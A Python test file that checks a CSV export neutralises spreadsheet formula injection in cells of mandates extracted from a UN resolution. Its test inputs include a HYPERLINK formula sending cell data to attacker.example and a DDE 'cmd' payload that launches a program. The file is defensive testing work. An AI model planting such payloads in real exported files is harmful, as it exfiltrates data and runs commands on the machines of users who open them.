"""CSV cells never run as formulas (issue 27): a mandate whose text, addressee or entities begin with =, +, -, @,
a tab or a carriage return is exported with a leading apostrophe, in the search export and the plan CSV alike;
every other cell is written as it is."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from service.spreadsheet import FORMULA_STARTS, safe_cell
from service.usecases.export import to_csv

REPO = Path(__file__).resolve().parents[2]
DOCUMENT = REPO / "corpus" / "bundled" / "UNEP_EA.4_RES.6.json"


@pytest.fixture(scope="module")
def mandates():
    from extractors.pipeline import extract_path

    return extract_path(DOCUMENT).mandates


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_a_real_export_is_written_as_it_is(mandates) -> None:
    rows = _rows(to_csv(mandates))
    assert len(rows) == len(mandates) > 10
    assert [r["text"] for r in rows] == [m.text for m in mandates]
    assert not any(v.startswith("'") for r in rows for v in r.values() if v)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(mandates, start) -> None:
    hostile = f'{start}HYPERLINK("http://attacker.example/?"&A1,"click") {mandates[0].text}'
    mandate = mandates[0].model_copy(update={"text": hostile, "actor_text": start + "cmd|' /C calc'!A0"})
    row = _rows(to_csv([mandate, *mandates[1:3]]))[0]
    assert row["text"] == "'" + hostile
    assert row["actor_text"] == "'" + start + "cmd|' /C calc'!A0"
    assert safe_cell(row["text"][1:]) == row["text"] and safe_cell(7) == 7


def test_the_plan_csv_neutralises_its_cells_too(mandates) -> None:
    from service.plan_formats.rows import plan_csv
    from service.usecases.plan import build_plan

    hostile = [m.model_copy(update={"text": "=1+1 " + m.text}) for m in mandates]
    data = plan_csv(build_plan(hostile, language="en"))
    rows = _rows(data)
    assert rows and all(r["text"].startswith("'=1+1 ") for r in rows)
    assert not any(v.startswith("'") for r in rows for k, v in r.items() if k not in ("text", "bullet") and v)
